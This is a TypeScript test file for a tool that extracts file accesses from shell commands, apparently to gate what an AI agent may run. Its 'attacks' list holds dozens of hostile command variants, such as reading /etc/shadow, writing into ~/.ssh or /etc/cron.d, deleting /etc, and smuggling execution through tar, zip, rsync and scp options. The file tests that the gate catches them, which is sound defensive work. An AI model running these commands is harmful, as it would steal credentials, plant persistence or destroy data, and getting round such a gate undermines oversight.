import type { Access } from '@toolgate/core';
import { describe, expect, it } from 'vitest';
import { extractAccesses } from '../../src/index.js';
import { fakeContext } from '../helpers.js';

// Red-team variants against the file programs (issue 13, class 3) and a benign twin for each family: an attack
// must reach the denied path as an access of the right op (a subtree holding it counts) or be uncertain; the
// twin must stay certain and away from it.

const ctx = fakeContext({}, '/ws/project');
const run = (cmd: string) => extractAccesses(cmd, ctx);

function covers(a: Access, op: string, path: string): boolean {
  if (a.realPath === null) return false;
  const opOk = a.op === op || (op === 'read' && a.op === 'write') || (op === 'list' && a.op !== 'write');
  const inside =
    a.realPath === path ||
    (a.scope === 'subtree' && path.startsWith(a.realPath === '/' ? '/' : `${a.realPath}/`));
  return opOk && inside;
}

/** [command, op, denied path] — or `null` path when the only honest answer is uncertain. */
const attacks: [string, string, string | null][] = [
  ['find -- /etc -delete', 'write', '/etc/shadow'],
  ['find / -name shadow -exec cat {} \\;', 'read', '/etc/shadow'],
  ['find . -fprint /etc/cron.d/evil', 'write', '/etc/cron.d/evil'],
  ['find . -fls ~/.ssh/authorized_keys', 'write', '/home/agent/.ssh/authorized_keys'],
  ['find . -fprintf ~/.ssh/config "%p"', 'write', '/home/agent/.ssh/config'],
  ['find . -frobnicate /etc/shadow', 'write', null],
  ['find . -execdir cat id_rsa \\;', 'read', '/ws/project/deep/id_rsa'],
  ['nl -p /etc/shadow', 'read', '/etc/shadow'],
  ['od -w8 /etc/shadow', 'read', '/etc/shadow'],
  ['shred -x /etc/shadow', 'write', '/etc/shadow'],
  ['mkfifo -Z ~/.ssh/x', 'write', '/home/agent/.ssh/x'],
  ['head --lines 5 /etc/shadow', 'read', '/etc/shadow'],
  ['cat -Q /etc/shadow', 'write', null],
  ['chmod -x /etc/shadow', 'write', '/etc/shadow'],
  ['chmod -R -w,g+r /etc/ssh', 'write', '/etc/ssh/sshd_config'],
  ['chmod --reference=/etc/shadow f', 'read', '/etc/shadow'],
  ['tar --to-command="sh -c id" -xf a.tar', 'write', null],
  ['tar -cf a.tar --checkpoint=1 --checkpoint-action=exec="cat /etc/shadow" src', 'write', null],
  ['tar -cf a.tar --checkpoint-act=exec=id src', 'write', null],
  ['tar -I "sh -c id" -cf a.tar src', 'write', null],
  ['tar -cf evil:/tmp/a.tar src', 'write', null],
  ['tar -xPf a.tar', 'write', null],
  ['tar czf /tmp/a.tgz -C / etc/shadow', 'read', '/etc/shadow'],
  ['tar -xf a.tar --one-top-level=/etc/cron.d', 'write', '/etc/cron.d/x'],
  ['zip -T -TT "sh -c id" a.zip f', 'write', null],
  ['zip a.zip f --unzip-command=id -T', 'write', null],
  ['zip a.zip f -lf /etc/cron.d/log', 'write', '/etc/cron.d/log'],
  ['zip -r a.zip ~/.ssh', 'read', '/home/agent/.ssh/id_rsa'],
  ['unzip -: a.zip', 'write', null],
  ['unzip a.zip -d ~/.ssh', 'write', '/home/agent/.ssh/authorized_keys'],
  ['rsync -e "sh -c id" a host:b', 'write', null],
  ['scp -o ProxyCommand="sh -c id" a host:b', 'write', null],
  ['scp -S ./evil a host:b', 'write', null],
  ['cp --backup -S /../../etc/x a b', 'write', null],
  ['cp -t ~/.ssh id_rsa.pub', 'write', '/home/agent/.ssh/id_rsa.pub'],
  ['cp x /etc/', 'write', '/etc/x'],
  ['mv evil ~/.ssh/', 'write', '/home/agent/.ssh/evil'],
  ['install -m 600 key ~/.ssh/', 'write', '/home/agent/.ssh/key'],
  ['install --strip-program=./evil -s a /tmp/b', 'write', null],
  ['sort --compress-program=./evil -o out in', 'write', null],
  ['split --filter="cat /etc/shadow" big.txt', 'write', null],
  ['strings @opts file', 'read', null],
  ['rg --pre ./evil foo', 'read', null],
  ['file -f /tmp/names', 'read', null],
  ['gzip -S /../../../etc/x f', 'write', null],
  ['patch -g1 -i fix.diff', 'write', null],
  ['cat fix.diff | patch -p1', 'write', null],
  ['xargs -s 10 -a list cat', 'write', null],
  ['grep -f /etc/shadow x', 'read', '/etc/shadow'],
  ['diff --from-file=/etc/shadow a', 'read', '/etc/shadow'],
  ['du --exclude-from=/etc/shadow .', 'read', '/etc/shadow'],
  ['sha256sum -c /etc/shadow', 'read', '/etc/shadow'],
  ['ls -R ~/.ssh', 'list', '/home/agent/.ssh/id_rsa'],
  ['stat -L ~/.ssh/id_rsa', 'list', '/home/agent/.ssh/id_rsa'],
];

describe('attacks on file programs are denied or uncertain', () => {
  it('has at least 50 variants', () => {
    expect(attacks.length).toBeGreaterThanOrEqual(50);
  });
  for (const [cmd, op, path] of attacks) {
    it(cmd, () => {
      const r = run(cmd);
      if (path === null) expect(r.uncertain).toBe(true);
      else expect(r.accesses.some((a) => covers(a, op, path)) || r.uncertain).toBe(true);
      if (path !== null && !r.uncertain) expect(r.accesses.some((a) => covers(a, op, path))).toBe(true);
    });
  }
});

/** Everyday twins: certain, and nothing outside the workspace, /tmp or the path they name. */
const twins: string[] = [
  'find . -name "*.ts" -print',
  'find src -type f -newer package.json -ls',
  'nl -p file.txt',
  'od -w8 file.bin',
  'shred -x scratch.bin',
  'mkfifo -Z pipe',
  'chmod -x script.sh',
  'chmod -R g+w shared',
  'tar -xf a.tar -C out',
  'tar --checkpoint=100 -cf a.tar src',
  'tar -czf /tmp/a.tgz src',
  'zip -r a.zip src',
  'zip -T a.zip f',
  'unzip -o a.zip -d out',
  'cp --backup a.txt b.txt',
  'cp -t /tmp a.txt',
  'install -m 755 bin/tool /tmp/',
  'sort -o out.txt in.txt',
  'strings -n 8 binary',
  'gzip -S .z file',
  'patch -p1 file.txt fix.diff',
  'grep -rn TODO src',
  'du -sh .',
  'ls -la',
];

describe('their everyday twins stay certain and in place', () => {
  for (const cmd of twins) {
    it(cmd, () => {
      const r = run(cmd);
      expect(r.uncertain).toBe(false);
      for (const a of r.accesses) expect(a.realPath).toMatch(/^\/(ws\/project|tmp)(\/|$)/);
    });
  }
});

describe('jq reads the files of its two-word options', () => {
  it.each([
    ["jq --rawfile a /etc/shadow -n '$a'", '/etc/shadow'],
    ["jq --slurpfile a /etc/shadow -n '$a'", '/etc/shadow'],
    ["jq --argfile a /etc/shadow -n '$a'", '/etc/shadow'],
    ['jq -f /etc/shadow data.json', '/etc/shadow'],
    ["jq --arg a b '.x' /etc/shadow", '/etc/shadow'],
  ])('%s', (cmd, path) => {
    expect(run(cmd).accesses.some((a) => covers(a, 'read', path))).toBe(true);
  });

  it('a filter importing a module is uncertain; --args values and plain filters are certain', () => {
    expect(run('jq -L /tmp \'import "m" as m; m::f\' x.json').uncertain).toBe(true);
    const r = run("jq -n --args '$ARGS' /etc/shadow");
    expect(r.uncertain).toBe(false);
    expect(r.accesses).toEqual([]);
    expect(run("jq -r '.name' package.json").accesses.map((a) => a.path)).toEqual([
      '/ws/project/package.json',
    ]);
  });

  it('mknod writes only its NAME', () => {
    expect(run('mknod /tmp/p p').accesses.map((a) => a.path)).toEqual(['/tmp/p']);
  });
});
